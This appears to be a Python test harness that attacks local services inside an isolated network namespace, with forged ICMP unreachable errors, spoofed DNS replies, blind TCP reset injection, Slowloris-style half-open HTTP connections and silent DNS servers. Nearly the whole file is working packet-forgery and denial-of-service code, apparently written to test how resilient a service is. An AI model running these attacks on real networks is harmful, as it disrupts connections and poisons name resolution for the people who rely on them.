"""What a stranger on the network sends. Run as root within a network namespace of its own:

    attacks.py icmp|answers|resets|half-open|silent SECONDS

Prints how many packets, or connections, it was. Forged packets need raw sockets.
"""

import os
import random
import select
import socket
import struct
import sys
import threading
import time

SERVERS = ["127.77.0.1", "127.77.0.2"]
DESK = "127.0.0.1"
STRANGERS = ["10.66.0.%d" % n for n in range(1, 5)]
PUBLIC, OPERATIONS = (DESK, 8080), (DESK, 8081)
sent = 0


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data[: len(data) // 2 * 2]))
    total += data[-1] << 8 if len(data) % 2 else 0
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip(source, target, protocol, body):
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), random.getrandbits(16), 0, 64, protocol, 0)
    return head + socket.inet_aton(source) + socket.inet_aton(target) + body


def udp(source, target, body):
    # A checksum of zero says that there is none (RFC 768).
    return struct.pack("!HHHH", source[1], target[1], 8 + len(body), 0) + body


def tcp(source, target, flags):
    head = lambda total: struct.pack(
        "!HHIIBBHHH", source[1], target[1], seq, ack, 0x50, flags, 0, total, 0
    )
    seq, ack = random.getrandbits(32), random.getrandbits(32)
    pseudo = socket.inet_aton(source[0]) + socket.inet_aton(target[0]) + struct.pack("!BBH", 0, 6, 20)
    return head(checksum(pseudo + head(0)))


def sockets(kind):
    """Local and remote ends of all sockets of this namespace, as anybody guesses them."""
    with open("/proc/net/" + kind) as table:
        for line in list(table)[1:]:
            ends = []
            for end in line.split()[1:3]:
                address, port = end.split(":")
                packed = struct.pack("<I", int(address, 16))
                ends.append((socket.inet_ntoa(packed), int(port, 16)))
            yield tuple(ends)


def desk_ports():
    return [local[1] for local, _ in sockets("udp") if local[1] not in (0, 53)]


def web_connections():
    return [(local, remote) for local, remote in sockets("tcp") if remote[1] == 80]


def paced(rate, end):
    """Comes back so often a second until the end, in small bursts."""
    begun, count = time.monotonic(), 0
    while time.monotonic() < end:
        due = int((time.monotonic() - begun) * rate)
        while count < due:
            count += 1
            yield count
        time.sleep(0.01)


def icmp(end):
    """Errors that quote what was sent: eight bytes suffice, and no id of DNS is among them."""
    global sent
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    quotes, read_at = [], 0
    for n in paced(400, end):
        if time.monotonic() - read_at > 1:
            read_at = time.monotonic()
            quotes = [
                ip(DESK, server, 17, struct.pack("!HHHH", port, 53, 40, 0))
                for port in desk_ports()
                for server in SERVERS
            ]
            quotes += [
                ip(local[0], remote[0], 6, struct.pack("!HHI", local[1], 80, random.getrandbits(32)))
                for local, remote in web_connections()
            ]
        if not quotes:
            continue
        body = quotes[n % len(quotes)]
        kind = (3, random.choice([0, 1, 3, 9, 10, 13]))
        head = struct.pack("!BBHI", *kind, 0, 0)
        total = checksum(head + body)
        raw.sendto(struct.pack("!BBHI", *kind, total, 0) + body, (DESK, 0))
        sent += 1


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return labels + b"\0" + struct.pack("!HH", 6, 1)


def answers(end):
    """Answers that were never asked for: from the servers' own address with ids that are guessed,
    and with ids that were seen, from another port and from another address."""
    global sent
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    listener = threading.Thread(target=overheard, args=(end,))
    listener.start()
    ports, read_at = [], 0
    for n in paced(2000, end):
        if time.monotonic() - read_at > 1:
            ports, read_at = desk_ports(), time.monotonic()
        if not ports:
            continue
        refused = random.choice([3, 5])
        body = struct.pack("!HHHHHH", random.getrandbits(16), 0x8400 | refused, 1, 0, 0, 0)
        body += question("site%d.test" % random.randrange(40))
        server = (random.choice(SERVERS), 53)
        target = (DESK, ports[n % len(ports)])
        raw.sendto(ip(server[0], DESK, 17, udp(server, target, body)), (DESK, 0))
        sent += 1
    listener.join()


def overheard(end):
    global sent
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    lo = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    lo.bind(("lo", 0))
    lo.settimeout(0.2)
    while time.monotonic() < end:
        try:
            frame, (_, _, direction, _, _) = lo.recvfrom(2048)
        except TimeoutError:
            continue
        packet = frame[14:]
        if direction == 4 or packet[9] != 17 or len(packet) < 40:
            continue
        source, target = socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20])
        ports = struct.unpack("!HH", packet[20:24])
        query = packet[28:]
        if ports[1] != 53 or target not in SERVERS:
            continue
        body = query[:2] + struct.pack("!HHHHH", 0x8405, 1, 0, 0, 0)
        name_end = query.index(b"\0", 12) + 5
        body += query[12:name_end]
        for forged in [(target, 54), ("127.77.0.9", 53)]:
            forged_packet = udp(forged, (source, ports[0]), body)
            raw.sendto(ip(forged[0], source, 17, forged_packet), (source, 0))
            sent += 1


def resets(end):
    """Resets of connections whose ends are known and whose sequence numbers are not."""
    global sent
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    found = []
    for n in paced(400, end):
        if n % 4 == 0:
            found = web_connections() or found
        if not found:
            continue
        local, remote = found[n % len(found)]
        raw.sendto(ip(remote[0], local[0], 6, tcp(remote, local, 0x14)), (local[0], 0))
        sent += 1


def half_open(end):
    """Requests that are begun and never ended, and idle lines; closed ones are opened again."""
    global sent
    held = []
    while time.monotonic() < end:
        for target, most in ((PUBLIC, 600), (OPERATIONS, 200)):
            mine = [line for line in held if line[1] == target]
            for _ in range(min(most - len(mine), 100)):
                line = socket.socket()
                line.settimeout(0.2)
                try:
                    # As several strangers: on loopback everybody may be a proxy.
                    line.bind((random.choice(STRANGERS), 0))
                    line.connect(target)
                    if sent % 2:
                        line.send(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Half: ")
                    held.append((line, target))
                    sent += 1
                except OSError:
                    line.close()
        closed = select.select([line for line, _ in held], [], [], 0.2)[0]
        closed = {line.fileno() for line in closed}
        for line, _ in [it for it in held if it[0].fileno() in closed]:
            line.close()
        held = [it for it in held if it[0].fileno() != -1]


def silent(end):
    """Forty name servers that take every question and answer none."""
    global sent
    held = []
    for n in range(1, 41):
        taken = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        taken.bind(("127.79.0.%d" % n, 53))
        held.append(taken)
    while time.monotonic() < end:
        for taken in select.select(held, [], [], 0.2)[0]:
            taken.recv(2048)
            sent += 1


if __name__ == "__main__":
    attack = {"icmp": icmp, "answers": answers, "resets": resets, "half-open": half_open, "silent": silent}
    if os.geteuid() != 0:
        sys.exit("forged packets need root")
    attack[sys.argv[1]](time.monotonic() + float(sys.argv[2]))
    print("sent", sent)
